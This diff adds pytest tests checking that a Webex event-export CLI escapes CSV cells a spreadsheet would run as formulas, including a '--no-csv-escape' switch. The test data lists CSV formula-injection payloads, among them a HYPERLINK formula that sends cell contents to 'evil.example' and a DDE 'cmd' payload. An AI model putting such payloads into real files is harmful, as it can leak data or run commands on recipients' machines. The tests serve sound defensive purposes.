@@ -225,3 +225,54 @@ def test_an_existing_output_is_never_overwritten_without_force(
     forced = _run(_export(url, out, "--force"))
     assert forced.returncode == 0, forced.stderr
     assert sorted(_ids(out)) == sorted(fk.expected_ids(from_=START, to=END))
+
+
+# --- CSV formula injection ------------------------------------------------------------------------
+
+_FORMULAS = {
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\tTAB": "'\tTAB",
+    "\rCR": "'\rCR",
+    "plain = text": "plain = text",  # only the first character counts
+}
+
+
+def _formula_page(number: int, path: str, headers: dict[str, str]) -> Answer:
+    items = [
+        {
+            "id": f"E{i}",
+            "resource": "messages",
+            "type": "created",
+            "actorId": "A",
+            "orgId": "O",
+            "appId": "P",
+            "created": f"2024-05-01T00:00:{i:02d}.000Z",
+            "data": {"id": f"M{i}", "text": text, "callDurationSeconds": -5},
+        }
+        for i, text in enumerate(_FORMULAS)
+    ]
+    return Answer(body=json.dumps({"items": items[::-1]}).encode())
+
+
+@pytest.mark.parametrize("escape", [True, False])
+def test_csv_cells_a_spreadsheet_would_run_are_escaped_unless_asked_not_to(tmp_path: Path, escape: bool) -> None:
+    import csv
+    import io
+
+    out = tmp_path / "events.csv"
+    with hostile_server(_formula_page) as server:
+        args = [sys.executable, "-m", "webex_events.cli", "export", "--base-url", server.base_url, *RANGE]
+        args += ["--concurrency", "1", "-q", "-o", str(out)]
+        r = _run([*args, *([] if escape else ["--no-csv-escape"])])
+    assert r.returncode == 0, r.stderr
+    # Bytes, not read_text: universal newlines would turn the cell's CR into LF.
+    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
+    cells = {row["data.text"] for row in rows}
+    assert cells == (set(_FORMULAS.values()) if escape else set(_FORMULAS))
+    # A number is data, not text: -5 stays a number whatever the switch.
+    assert {row["data.callDurationSeconds"] for row in rows} == {"-5"}
+    # Everything else is untouched.
+    assert {row["id"] for row in rows} == {f"E{i}" for i in range(len(_FORMULAS))}
